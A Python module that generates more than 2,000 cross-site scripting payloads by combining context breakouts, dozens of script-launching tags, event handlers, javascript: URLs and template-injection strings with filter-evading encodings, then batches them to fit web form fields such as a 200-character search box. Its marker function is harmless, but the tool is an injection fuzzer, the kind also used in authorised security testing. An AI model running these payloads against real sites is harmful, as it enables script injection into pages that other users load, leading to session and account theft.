"""Scripts as they are smuggled into pages: every way to begin one in every place of a page, 2,000 and more."""

from collections.abc import Iterator, Sequence
from html import escape
from itertools import islice, product
from urllib.parse import quote

RUN = "noaRan()"
SHORTEST_FIELD = 180  # characters: the search takes 200
# How a text leaves the place that it was put into: the content of an element, an attribute, a script, a comment.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    '" ',
    "' ",
    "`",
    "</style>",
    "</select>",
    "</template>",
)
BEGINNINGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script\n>", "<script/x>{}</script>", "<<script>{}//<</script>", "<script>{}",
    "<script src=data:text/javascript,{}></script>", "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<img src=x onerror\n=\n'{}'>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg/onload={}//", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src=\"javascript:parent.{}\"></iframe>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}></video>",
    "<audio src onerror={}>", "<marquee onstart={}>", "<object data=javascript:{}>", "<embed src=javascript:{}>", "<math href=javascript:{}>x</math>",
    "<a href=javascript:{} autofocus>x</a>", "<form action=javascript:{}><button autofocus>x</button></form>", "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>", "<meta http-equiv=refresh content=0;url=javascript:{}>", "<base href=javascript:{}//>",
    "onfocus={} autofocus x=", "autofocus onfocus='{}' x='", 'style=animation-name:x onanimationstart={} x="', "[x](javascript:{})",
    "![x](javascript:{})", "[x]: javascript:{}", "<javascript:{}>", "[x](data:text/html,<script>{}</script>)", "javascript:{}", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "';{}//", '";{}//', "\\';{}//", "*/{}/*", "<x hx-on:load={} hx-get=/ hx-trigger=load>", "<div hx-get='javascript:{}' hx-trigger=load>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<math><mtext><table><mglyph><style><img src=x onerror={}>",
)  # fmt: skip


def _as_is(text: str) -> str:
    return text


def _escaped(text: str) -> str:
    return escape(text)


def _numbered(text: str) -> str:
    return "".join(f"&#x{ord(char):x};" if char in "<>\"'" else char for char in text)


def _with_zeros(text: str) -> str:
    return text.replace("<", "<\u200b").replace("script", "scr\u00adipt")


WRITINGS = (_as_is, _escaped, _numbered, quote, _with_zeros)


def payloads(count: int) -> list[str]:
    """Return so many different ones; neighbours begin differently, so that one does not swallow the next."""
    every = product(WRITINGS, WAYS_OUT, BEGINNINGS)
    made = dict.fromkeys(writing(f"{out}{payload.format(RUN)}") for writing, out, payload in every)
    return list(islice((text for text in made if len(text) <= SHORTEST_FIELD), count))


def batches(texts: Sequence[str], length: int) -> Iterator[str]:
    """Yield all of them, as many to a text as a field of that length takes."""
    held = ""
    for text in texts:
        if held and len(held) + 2 + len(text) > length:
            yield held
            held = ""
        held = f"{held}\n\n{text}" if held else text
    if held:
        yield held
